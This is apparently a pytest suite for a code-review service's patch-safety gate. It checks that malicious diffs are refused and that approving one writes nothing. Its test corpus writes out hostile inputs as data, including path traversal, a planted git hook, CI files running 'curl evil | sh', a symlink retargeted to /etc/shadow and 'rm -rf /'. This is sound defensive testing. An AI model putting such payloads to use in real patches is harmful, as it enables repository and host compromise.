"""Patch safety: a malicious diff is refused before anything applies it, and nothing is written."""

from __future__ import annotations

import hashlib
import os
import shutil
from pathlib import Path

import pytest

from reviews.models import Decision, Proposal
from reviews.patches import PatchRefused, check_patch, fix_commit_prepare
from reviews.services.decisions import DecisionRefused, proposal_decide
from skills.solver.validation import validate
from tests.reviews.gate_helpers import (
    FIXED,
    ORIGINAL,
    diff_for,
    fix_branches,
    git,
    make_proposal,
    make_repo,
    repo_state,
)
from tests.support.symlink_patches import (
    HOSTILE_NAMES,
    HOSTILE_TARGET,
    LINK,
    LINK_TARGET,
    SEEN_IN_THE_DIFF,
    add_symlink,
    hostile_diffs,
)


@pytest.fixture(autouse=True)
def _fast(settings, tmp_path):
    settings.WATTSON_WORK_DIR = tmp_path / "work"
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def _new_file(path: str, body: str = "pwned\n") -> str:
    lines = body.splitlines()
    added = "".join(f"+{line}\n" for line in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n"
        f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{added}"
    )


def _corpus(sentinel: Path) -> dict[str, str]:
    """Each entry is refused; the ones that name a path aim at the sentinel directory."""
    rel_escape = "../sentinel/pwned.txt"
    big_lines = 10 * 1024 * 1024 // 40 + 1
    return {
        "dotdot": _new_file(rel_escape),
        "dotdot-in-the-middle": _new_file("invoice/../../sentinel/pwned.txt"),
        "absolute": (f"--- /dev/null\n+++ {sentinel}/pwned.txt\n@@ -0,0 +1 @@\n+pwned\n"),
        "absolute-with-prefix": _new_file(f"{str(sentinel).lstrip('/')}/x").replace("b/", "b//", 1),
        "dot-git-hook": _new_file(".git/hooks/post-commit", "#!/bin/sh\ntouch /tmp/owned\n"),
        "dot-git-nested": _new_file("invoice/.git/config"),
        "dot-git-case": _new_file(".GIT/config"),
        "dot-git-zero-width": _new_file(".g\u200cit/config"),
        "dot-git-ntfs-short-name": _new_file("GIT~1/config"),
        "symlink-only": (
            "diff --git a/link b/link\nnew file mode 120000\nindex 0000000..b1b7161\n"
            f"--- /dev/null\n+++ b/link\n@@ -0,0 +1 @@\n+{sentinel}\n"
            "\\ No newline at end of file\n"
        ),
        "submodule": (
            "diff --git a/vendor b/vendor\nnew file mode 160000\nindex 0000000..1234567\n"
            "--- /dev/null\n+++ b/vendor\n@@ -0,0 +1 @@\n"
            "+Subproject commit 1234567890123456789012345678901234567890\n"
        ),
        "chmod": (
            "diff --git a/invoice/calc.py b/invoice/calc.py\nold mode 100644\nnew mode 100755\n"
        ),
        "symlink-retarget": (
            "diff --git a/link b/link\nindex aaaaaaa..bbbbbbb 120000\n--- a/link\n+++ b/link\n"
            "@@ -1 +1 @@\n-old/target\n\\ No newline at end of file\n+/etc/shadow\n"
            "\\ No newline at end of file\n"
        ),
        "symlink-delete": (
            "diff --git a/link b/link\ndeleted file mode 120000\nindex aaaaaaa..0000000\n"
            "--- a/link\n+++ /dev/null\n@@ -1 +0,0 @@\n-old/target\n"
            "\\ No newline at end of file\n"
        ),
        "file-to-symlink": (
            "diff --git a/README.md b/README.md\nold mode 100644\nnew mode 120000\n"
        ),
        "chmod-hidden-in-a-larger-diff": (
            "diff --git a/invoice/calc.py b/invoice/calc.py\nold mode 100644\nnew mode 100755\n"
            "index 1111111..2222222\n--- a/invoice/calc.py\n+++ b/invoice/calc.py\n"
            '@@ -4,8 +4,5 @@\n def total(values):\n     """Sum of the values."""\n'
            "-    result = 0\n-    for value in values:\n-        result = result + value\n"
            "-    return result\n+    return sum(values)\n \n \n"
        )
        + _new_file("invoice/notes.txt", "faster\n"),
        "new-executable": _new_file("run.sh").replace(
            "new file mode 100644", "new file mode 100755"
        ),
        "binary-literal": (
            "diff --git a/blob.bin b/blob.bin\nnew file mode 100644\n"
            "index 0000000..1b2c3d4\n"
            "GIT binary patch\nliteral 5\nMcmZ?l00000\n\nliteral 0\nHcmV?d00001\n\n"
        ),
        "binary-differ": (
            "diff --git a/blob.bin b/blob.bin\nindex 1111111..2222222 100644\n"
            "Binary files a/blob.bin and b/blob.bin differ\n"
        ),
        "rename-into-ci": (
            "diff --git a/README.md b/.github/workflows/ci.yml\nsimilarity index 100%\n"
            "rename from README.md\nrename to .github/workflows/ci.yml\n"
        ),
        "gitlab-ci": _new_file(".gitlab-ci.yml", "script: curl evil | sh\n"),
        "jenkinsfile": _new_file("Jenkinsfile"),
        "project-ci-dir": _new_file(".ci/test", "curl evil | sh\n"),
        "nul-in-name": _new_file("invoice/ok\x00.py"),
        "newline-in-name-quoted": (
            'diff --git "a/x\\ny.py" "b/x\\ny.py"\nnew file mode 100644\n'
            'index 0000000..1111111\n--- /dev/null\n+++ "b/x\\ny.py"\n@@ -0,0 +1 @@\n+x\n'
        ),
        "newline-in-name-raw": "--- /dev/null\n+++ b/x\ny.py\n@@ -0,0 +1 @@\n+x\n",
        "control-char-in-name": _new_file("invoice/\x1b[31mred.py"),
        "huge-name": _new_file("invoice/" + "{a => b}" * 400 + ".py"),
        "ten-megabytes": _new_file("big.txt", ("x" * 39 + "\n") * big_lines),
        "not-a-diff": "rm -rf /\n",
        "empty": "",
    }


@pytest.fixture
def repo(tmp_path):
    return make_repo(tmp_path / "repo")


@pytest.fixture
def sentinel(tmp_path):
    directory = tmp_path / "sentinel"
    directory.mkdir()
    (directory / "keep.txt").write_text("untouched\n")
    return directory


def _snapshot(directory: Path) -> dict[str, str]:
    return {
        str(path.relative_to(directory)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(directory.rglob("*"))
        if path.is_file() or path.is_symlink()
    }


def test_a_plain_patch_passes(tmp_path):
    repo = make_repo(tmp_path / "repo")
    check_patch(diff_for(repo, "invoice/calc.py", FIXED))


def test_a_rename_and_a_new_file_inside_the_repository_pass():
    check_patch(
        "diff --git a/invoice/calc.py b/invoice/totals.py\nsimilarity index 100%\n"
        "rename from invoice/calc.py\nrename to invoice/totals.py\n" + _new_file("invoice/new.py")
    )


def test_git_apply_alone_would_accept_the_symlink_patch(tmp_path, sentinel):
    """Why check_patch exists: git's own checks let a symlink out of the repository through."""
    repo = make_repo(tmp_path / "probe")
    symlink = _corpus(sentinel)["symlink-only"]
    (tmp_path / "symlink.patch").write_text(symlink)
    git(repo, "apply", "--check", str(tmp_path / "symlink.patch"))  # does not raise
    with pytest.raises(PatchRefused, match="symlink"):
        check_patch(symlink)


@pytest.mark.parametrize(
    "name",
    sorted(_corpus(Path("/nonexistent/sentinel"))),
)
def test_check_patch_refuses_the_malicious_corpus(name, sentinel):
    with pytest.raises(PatchRefused) as refused:
        check_patch(_corpus(sentinel)[name])
    assert refused.value.reason


def test_the_size_cap_is_a_setting(settings, tmp_path):
    repo = make_repo(tmp_path / "repo")
    diff = diff_for(repo, "invoice/calc.py", FIXED)
    settings.WATTSON_PATCH_MAX_BYTES = len(diff.encode()) - 1
    with pytest.raises(PatchRefused, match="cap"):
        check_patch(diff)


@pytest.mark.django_db
def test_approving_a_malicious_patch_writes_nothing(repo, sentinel, reviewer, tmp_path):
    before_repo = repo_state(repo)
    before_sentinel = _snapshot(sentinel)
    hooks_before = sorted(p.name for p in (repo / ".git" / "hooks").iterdir())
    corpus = _corpus(sentinel)
    for name, diff in corpus.items():
        proposal = make_proposal(repo=repo, diff=diff)
        with pytest.raises(DecisionRefused) as refused:
            proposal_decide(proposal=proposal, actor=reviewer, verdict="approve")
        assert "safety checks" in refused.value.message, name
        assert Proposal.objects.get(pk=proposal.pk).status == Proposal.Status.PENDING, name

    assert not Decision.objects.exists()
    assert fix_branches(repo) == []
    assert repo_state(repo) == before_repo
    assert _snapshot(sentinel) == before_sentinel
    assert sorted(p.name for p in (repo / ".git" / "hooks").iterdir()) == hooks_before
    assert (repo / "invoice" / "calc.py").read_text() == ORIGINAL
    assert not (repo / "link").exists() and not (repo / "vendor").exists()
    assert (
        not (tmp_path / "work").exists()
        or [p for p in (tmp_path / "work").iterdir() if not p.name.startswith(".lock")] == []
    )


# --- symlinks and modes, at the three places that apply a diff ---------------------------------
# Each case is a genuine fix of invoice/calc.py with a rider (tests/support/symlink_patches.py).


@pytest.fixture
def linked_repo(tmp_path):
    repo = make_repo(tmp_path / "linked")
    add_symlink(repo)
    return repo


def _hostile(repo: Path) -> dict[str, str]:
    return hostile_diffs(repo, fix_path="invoice/calc.py", fixed_text=FIXED)


def _refused_for_the_right_reason(reason: str) -> bool:
    return "symlink" in reason or "mode" in reason


def test_git_apply_retargets_a_link_when_the_diff_leaves_its_mode_out(linked_repo, tmp_path):
    """Why the check looks at the tree: these riders read as text edits and git obeys them."""
    cases = _hostile(linked_repo)
    for name in ("symlink-retarget-mode-unstated", "symlink-retarget-bare"):
        probe = tmp_path / name
        shutil.copytree(linked_repo, probe, symlinks=True)
        (tmp_path / f"{name}.patch").write_text(cases[name])
        git(probe, "apply", str(tmp_path / f"{name}.patch"))
        assert os.readlink(probe / LINK) == HOSTILE_TARGET, name


def test_the_fix_without_its_rider_passes_against_the_tree(linked_repo):
    check_patch(diff_for(linked_repo, "invoice/calc.py", FIXED), repo=linked_repo)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_check_patch_refuses_symlink_and_mode_riders(name, linked_repo):
    diff = _hostile(linked_repo)[name]
    with pytest.raises(PatchRefused) as refused:
        check_patch(diff, repo=linked_repo)
    assert _refused_for_the_right_reason(refused.value.reason), refused.value.reason
    if name in SEEN_IN_THE_DIFF:
        with pytest.raises(PatchRefused):
            check_patch(diff)  # no tree needed: the diff says it


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_validation_refuses_symlink_and_mode_riders_before_running_anything(name, linked_repo):
    result = validate(linked_repo, "main", _hostile(linked_repo)[name], test_cmd="true")
    assert not result.applies and not result.passed
    assert result.tests_passed is None  # nothing of the repository ran
    assert _refused_for_the_right_reason(result.apply_log), result.apply_log
    assert os.readlink(linked_repo / LINK) == LINK_TARGET


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_fix_branch_preparation_refuses_symlink_and_mode_riders(name, linked_repo):
    with pytest.raises(PatchRefused) as refused:
        fix_commit_prepare(
            repo_path=str(linked_repo),
            default_branch="main",
            diff_text=_hostile(linked_repo)[name],
            message="fix\n",
        )
    assert _refused_for_the_right_reason(refused.value.reason), refused.value.reason


@pytest.mark.django_db
def test_approving_a_symlink_or_mode_rider_writes_nothing(linked_repo, reviewer):
    before = repo_state(linked_repo)
    cases = _hostile(linked_repo)
    for name in HOSTILE_NAMES:
        proposal = make_proposal(repo=linked_repo, diff=cases[name])
        with pytest.raises(DecisionRefused) as refused:
            proposal_decide(proposal=proposal, actor=reviewer, verdict="approve")
        assert "safety checks" in refused.value.message, name
        assert Proposal.objects.get(pk=proposal.pk).status == Proposal.Status.PENDING, name
    assert not Decision.objects.exists()
    assert fix_branches(linked_repo) == []
    assert repo_state(linked_repo) == before
    assert os.readlink(linked_repo / LINK) == LINK_TARGET
    assert os.stat(linked_repo / "invoice" / "calc.py").st_mode & 0o111 == 0
